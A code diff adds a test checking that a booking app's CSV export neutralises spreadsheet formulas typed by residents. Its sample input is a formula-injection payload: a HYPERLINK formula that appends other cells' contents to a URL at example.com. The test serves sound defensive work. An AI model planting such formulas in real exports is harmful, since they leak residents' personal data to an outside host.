@@ -1,4 +1,5 @@
 import { eq } from "drizzle-orm";
+import Papa from "papaparse";
 import { beforeAll, describe, expect, it } from "vitest";
 import { auditLog, persons, roleGrants } from "../../db/schema";
 import {
@@ -233,5 +234,20 @@ describe("staff console", () => {
     expect(text).toContain("周桂芳");
     expect(text).not.toContain(resident.phone);
     expect((await call(`/api/offerings/${offeringId}/bookings.csv`, { cookie: otherStaff.cookie })).status).toBe(404);
+  });
+
+  it("writes what residents typed as text, never as a spreadsheet formula", async () => {
+    const typist = await createAccount({ name: "@钱大爷" });
+    const notes = '=HYPERLINK("http://example.com/?"&C2&D2,"详情")';
+    const res = await call("/api/bookings", {
+      cookie: typist.cookie,
+      body: { slotId, personId: typist.personId, notes },
+    });
+    expect(res.status).toBe(201);
+    const text = await (await call(`/api/offerings/${offeringId}/bookings.csv`, { cookie: staff.cookie })).text();
+    const [row] = Papa.parse<string[]>(text.replace(/^\uFEFF/, "").trim()).data.filter((r) => r.includes("'@钱大爷"));
+    expect(row).toBeDefined();
+    expect(row).toContain(`'${notes}`);
+    expect(text).not.toMatch(/,=HYPERLINK/);
   });
 });
